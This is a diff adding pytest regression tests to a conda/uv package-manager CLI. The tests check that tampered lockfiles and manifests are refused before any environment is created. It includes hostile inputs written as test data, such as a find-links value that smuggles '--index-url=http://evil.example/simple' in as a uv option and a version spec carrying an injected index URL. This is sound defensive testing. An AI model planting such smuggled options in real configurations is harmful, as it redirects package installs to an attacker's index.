@@ -260,3 +260,45 @@ def test_install_refuses_hostile_packages_by_itself(tmp_path: Path, wheelhouse: 
     for package in hostile:
         with pytest.raises(LockfileError):
             _install_locked(Uv(offline=True), python, [package])
+
+
+# -- round 2 (R1): hostile locks found by attacking the CLI, each refused before the prefix exists --
+
+
+@pytest.mark.parametrize(
+    ("change", "fragment"),
+    [
+        # rattler met this spec only when linking: "unexpected InvalidMatchSpecError", exit 1,
+        # after the prefix, its marker and its journal were written
+        (lambda t: t.replace('requested = "*"', 'requested = ">=1 ; --index-url http://x"', 1), "requested"),
+        (lambda t: t.replace('depends = ["tiny-b >=1"]', 'depends = ["tiny-b <<>>1"]'), "depends[0]"),
+        # found by sync only after the conda side had been built
+        (
+            lambda t: t.replace('entry = "tiny-a"', 'entry = "tiny-a"\nprovides = ["six==1.17.0"]'),
+            "provided by",
+        ),
+        # uv was handed two entries for one project ("Multiple active package entries"), exit 1
+        (lambda t: re.sub(r'^name = "six"$', 'name = "Six"', t, flags=re.M), "normal form"),
+    ],
+)
+def test_hostile_specs_and_names_are_refused_before_the_prefix_exists(
+    cli: CLI, project: Path, change: Callable[[str], str], fragment: str
+) -> None:
+    _edit(project, change)
+    for command in (("sync", "--frozen"), ("sync",)):
+        _refused(cli(*command, cwd=project), "condauv.lock: ", fragment)
+    assert not (project / ".condauv").exists()
+
+
+def test_a_find_links_value_is_never_an_option_of_uvs(cli: CLI, project: Path) -> None:
+    """``find-links = ["--index-url=http://…"]`` reached uv as its own option."""
+    manifest = project / "condauv.toml"
+    text = manifest.read_text(encoding="utf-8")
+    lock = (project / "condauv.lock").read_text(encoding="utf-8")
+    changed = re.sub(
+        r"^find-links = \[.*\]$", 'find-links = ["--index-url=http://evil.example/simple"]', text, flags=re.M
+    )
+    assert changed != text
+    manifest.write_text(changed, encoding="utf-8")
+    _refused(cli("lock", cwd=project), "pypi-options.find-links[0]", "is not a URL")
+    assert (project / "condauv.lock").read_text(encoding="utf-8") == lock
